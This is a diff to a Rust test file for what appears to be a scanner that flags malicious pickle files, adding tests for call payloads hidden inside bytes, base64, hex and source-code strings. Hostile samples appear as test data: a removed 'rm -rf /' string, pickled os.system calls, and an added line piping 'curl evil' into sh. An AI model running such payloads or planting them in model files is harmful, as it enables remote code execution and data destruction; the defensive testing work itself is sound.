@@ -214,12 +214,13 @@ fn gadget_chains_and_mutations() {
 #[test]
 fn benign_look_alikes_are_safe() {
     safe("state_dict", &craft::torch_state_dict(5, 16));
-    // Strings that name dangerous things are data, not imports.
+    // Strings that name dangerous things are data, not imports (a string holding a call in
+    // source form is a staged payload: see pickles_and_code_staged_inside_values_are_scanned).
     let data = PickleWriter::new()
         .proto(2)
         .empty_dict()
         .string("cmd")
-        .string("os.system('rm -rf /')")
+        .string("uses os.system and subprocess")
         .setitem()
         .string("eval")
         .string("__import__")
@@ -542,4 +543,81 @@ fn a_payload_behind_a_frame_straddle_is_found() {
         .raw(b"K\x01N.")
         .finish();
     safe("framed.pkl", &honest);
+}
+
+#[test]
+fn pickles_and_code_staged_inside_values_are_scanned() {
+    let inner = call("os", "system", &["id"]);
+    let hold = |value: PickleWriter| {
+        PickleWriter::new()
+            .proto(2)
+            .empty_dict()
+            .string("payload")
+            .raw(&value.finish())
+            .setitem()
+            .stop()
+            .finish()
+    };
+    let raw = hold(PickleWriter::new().bytes(&inner));
+    let r = dangerous("raw.pkl", &raw, "AISEC-PKL-001");
+    let hit = r
+        .findings
+        .iter()
+        .find(|f| f.rule == "AISEC-PKL-001")
+        .unwrap();
+    assert!(
+        hit.member
+            .as_deref()
+            .is_some_and(|m| m.starts_with("<pickle in a bytes value at byte")),
+        "{hit:?}"
+    );
+    assert!(rules(&r).contains(&"AISEC-PKL-009"));
+
+    let b64: String = {
+        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        inner
+            .chunks(3)
+            .flat_map(|c| {
+                let n = (u32::from(c[0]) << 16)
+                    | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
+                    | u32::from(*c.get(2).unwrap_or(&0));
+                (0..4).map(move |i| {
+                    if i > c.len() {
+                        '='
+                    } else {
+                        A[(n >> (18 - 6 * i) & 63) as usize] as char
+                    }
+                })
+            })
+            .collect()
+    };
+    let r = dangerous(
+        "b64.pkl",
+        &hold(PickleWriter::new().string(&b64)),
+        "AISEC-PKL-001",
+    );
+    assert!(r.findings.iter().any(|f| f
+        .member
+        .as_deref()
+        .is_some_and(|m| m.starts_with("<base64 pickle in a string"))));
+
+    let hex: String = inner.iter().map(|b| format!("{b:02x}")).collect();
+    dangerous(
+        "hex.pkl",
+        &hold(PickleWriter::new().string(&hex)),
+        "AISEC-PKL-001",
+    );
+
+    let source = "import os\nos.system('curl evil | sh')\n";
+    let r = scan("src.pkl", &hold(PickleWriter::new().string(source)));
+    assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
+    assert_eq!(rules(&r), vec!["AISEC-PKL-009"]);
+
+    // A benign pickle inside is reported, but only its own verdict counts; prose is prose.
+    let benign = hold(PickleWriter::new().bytes(&craft::torch_state_dict(1, 4)));
+    assert_eq!(scan("benign-inner.pkl", &benign).verdict, Verdict::Unknown);
+    safe(
+        "prose.pkl",
+        &hold(PickleWriter::new().string("a learning-rate schedule with warm restarts")),
+    );
 }
